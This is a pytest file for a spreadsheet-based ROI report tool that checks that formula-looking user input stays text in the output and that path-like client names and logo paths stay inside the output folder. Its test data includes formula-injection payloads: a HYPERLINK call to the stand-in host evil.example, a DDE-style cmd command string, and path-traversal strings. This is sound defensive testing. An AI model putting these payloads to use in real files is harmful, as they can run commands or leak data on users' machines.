"""User text that looks like a formula stays text in what the tool writes, and nothing is
written outside the output folder.

Spreadsheet programs run a cell that starts with =, +, - or @ (and, after a tab or a
carriage return, some of them still do). The generated sheets show the user's text through
formulas such as =TRIM(Costs!E5), whose result is text, or as typed text; never as a formula
of their own.
"""

from __future__ import annotations

import hashlib
import re
import zipfile
from datetime import date
from pathlib import Path

import pytest
from click.testing import CliRunner
from openpyxl import load_workbook
from workbooks import make_workbook

from roi_report.cli import main
from roi_report.excel import writer as workbook_writer
from roi_report.excel.package import PackageError
from roi_report.excel.sheets import GENERATED_SHEETS
from roi_report.pipeline import BuildOptions, build

TRIGGERS = {
    "equals": "=",
    "plus": "+",
    "minus": "-",
    "at": "@",
    "tab": "\t=",
    "cr": "\r=",
}
MARKER = "EVIL"


def payload(trigger: str, field: str) -> str:
    """Text a spreadsheet would run: a trigger, then a call that names the field."""
    if trigger == "=":
        return f'=HYPERLINK("http://evil.example/{field}","{MARKER}_{field}")'
    return f"{trigger}{MARKER}_{field}(1)+cmd|' /C calc'!A0"


def typed_settings(path: Path) -> Path:
    """The Report sheet's values as typed text, even those starting with "=" (as a user
    types them after an apostrophe, or as a CRM export writes them)."""
    book = load_workbook(path)
    for row in book["Report"].iter_rows(min_row=2):
        if isinstance(row[1].value, str):
            row[1].data_type = "s"
    book.save(path)
    return path


def hostile_workbook(path: Path, trigger: str) -> Path:
    channel = payload(trigger, "channel")
    make_workbook(
        path,
        settings={
            "Client": payload(trigger, "client"),
            "Report title": payload(trigger, "title"),
            "Prepared by": payload(trigger, "prepared_by"),
        },
        channels=[(channel, "Social"), ("Email", "Other")],
        costs=[
            {
                "Date": date(2025, 7, 5),
                "Category": "Ads",
                "Channel": channel,
                "Type": "Paid",
                "Campaign": payload(trigger, "cost_campaign"),
                "Description": payload(trigger, "description"),
                "Amount": 1000,
            }
        ],
        staff=[
            {
                "Date": date(2025, 7, 6),
                "Person": payload(trigger, "person"),
                "Channel": channel,
                "Type": "Organic",
                "Campaign": payload(trigger, "staff_campaign"),
                "Hourly rate": 50,
                "Hours": 10,
            }
        ],
        goals=[
            {
                "Goal": payload(trigger, "goal"),
                "Metric": payload(trigger, "metric"),
                "Channel": "All",
                "Value per result": 30,
            }
        ],
        results=[
            {
                "Date": date(2025, 7, 20),
                "Channel": channel,
                "Type": "Paid",
                "Campaign": payload(trigger, "result_campaign"),
                "Metric": payload(trigger, "metric"),
                "Count": 40,
            }
        ],
        leads=[
            {
                "Lead ID": payload(trigger, "lead"),
                "Created": date(2025, 7, 21),
                "Source": channel,
                "Score": 55,
                "Stage": "Won",
                "Won date": date(2025, 8, 1),
                "Revenue": 5000,
            }
        ],
    )
    return typed_settings(path)


def generated_formulas(path: Path) -> list[str]:
    """The text of every <f> in the generated sheets' parts, straight from the XML."""
    book = load_workbook(path, read_only=True)
    names = [n for n in book.sheetnames if n in GENERATED_SHEETS]
    book.close()
    assert names, "no generated sheets"
    with zipfile.ZipFile(path) as package:
        parts = [n for n in package.namelist() if re.search(r"worksheets/.*\.xml$", n)]
        xml = b"".join(package.read(n) for n in parts if b"<f>" in package.read(n))
    return re.findall(r"<f>(.*?)</f>", xml.decode("utf-8"), re.S)


def assert_user_text_stays_text(path: Path) -> set[str]:
    """Check both views of the generated sheets; return the fields whose text they show."""
    formulas = load_workbook(path)
    cached = load_workbook(path, data_only=True)
    shown = set()
    for name in GENERATED_SHEETS:
        for row in formulas[name].iter_rows():
            for cell in row:
                value = cell.value
                if cell.data_type == "f":
                    assert MARKER not in str(value), f"{name}!{cell.coordinate}: {value!r}"
                    assert "evil.example" not in str(value), f"{name}!{cell.coordinate}"
                elif isinstance(value, str) and MARKER in value:
                    assert cell.data_type == "s", f"{name}!{cell.coordinate}: {cell.data_type}"
                    shown.update(re.findall(rf"{MARKER}_(\w+)", value))
        for row in cached[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and MARKER in cell.value:
                    assert cell.data_type == "s", f"{name}!{cell.coordinate} (cached)"
                    shown.update(re.findall(rf"{MARKER}_(\w+)", cell.value))
    for formula in generated_formulas(path):
        assert MARKER not in formula and "evil.example" not in formula, formula
    # The user's own cells are the user's, kept as typed text.
    assert formulas["Costs"]["E2"].data_type == "s"
    assert formulas["Report"]["B2"].data_type == "s"
    return shown


@pytest.mark.parametrize("trigger", list(TRIGGERS.values()), ids=list(TRIGGERS))
def test_formula_looking_text_stays_text_in_the_results_workbook(tmp_path, trigger):
    source = hostile_workbook(tmp_path / "client.xlsx", trigger)
    built = build(source, BuildOptions(out_dir=tmp_path / "out", pdf=False))
    shown = assert_user_text_stays_text(built.results_path)
    # The text did reach the generated sheets, as text: the test tests something.
    assert {"client", "channel", "cost_campaign", "goal", "metric"} <= shown, shown


@pytest.mark.parametrize("trigger", ["=", "@", "\t="], ids=["equals", "at", "tab"])
def test_formula_looking_text_stays_text_when_the_package_is_rewritten(
    tmp_path, trigger, monkeypatch
):
    """The fallback writer (openpyxl) for packages the splice does not understand."""

    def no_splice(*args, **kwargs):
        raise PackageError("forced for the test")

    monkeypatch.setattr(workbook_writer, "splice", no_splice)
    source = hostile_workbook(tmp_path / "client.xlsx", trigger)
    built = build(source, BuildOptions(out_dir=tmp_path / "out", pdf=False))
    shown = assert_user_text_stays_text(built.results_path)
    assert {"client", "title", "cost_campaign"} <= shown, shown  # no cached results here


# --- paths ------------------------------------------------------------------------------


def snapshot(folder: Path) -> dict[Path, str]:
    return {
        p.relative_to(folder): hashlib.sha256(p.read_bytes()).hexdigest()
        for p in folder.rglob("*")
        if p.is_file()
    }


PATH_LIKE_CLIENTS = [
    "../../escaped",
    "/tmp/roi-report-absolute-client",
    "..\\..\\windows-escape",
    "out/../../sneaky",
    "CON",
    "reports/2025/q3",
]


@pytest.mark.parametrize("client", PATH_LIKE_CLIENTS)
def test_a_client_name_is_never_a_path(tmp_path, client):
    """Only <stem>-roi.xlsx (and .pdf) appear, in -o; the client name names no file."""
    work = tmp_path / "work"
    (work / "in").mkdir(parents=True)
    source = make_workbook(
        work / "in" / "client.xlsx",
        settings={"Client": client},
        costs=[
            {
                "Date": date(2025, 7, 5),
                "Category": "Ads",
                "Channel": "LinkedIn",
                "Type": "Paid",
                "Amount": 1000,
            }
        ],
    )
    before = snapshot(tmp_path)
    absolute = Path("/tmp/roi-report-absolute-client")
    existed = absolute.exists()
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(work / "out")])
    assert "Traceback" not in result.output
    after = snapshot(tmp_path)
    added = set(after) - set(before)
    if result.exit_code == 0:
        assert added == {Path("work/out/client-roi.xlsx"), Path("work/out/client-roi.pdf")}
    else:  # refused with a clear message: then nothing at all
        assert added == set(), result.output
    assert {p: after[p] for p in before} == before  # nothing changed either
    assert absolute.exists() == existed


def test_a_logo_outside_the_workbook_folder_is_refused(tmp_path):
    outside = tmp_path / "outside.png"
    outside.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(64))
    (tmp_path / "in").mkdir()
    source = make_workbook(tmp_path / "in" / "client.xlsx", settings={"Logo": "../outside.png"})
    before = snapshot(tmp_path)
    result = CliRunner().invoke(main, ["build", str(source), "-o", str(tmp_path / "out")])
    assert result.exit_code == 1, result.output
    assert "Traceback" not in result.output
    assert "'../outside.png' points outside" in result.output
    assert snapshot(tmp_path) == before
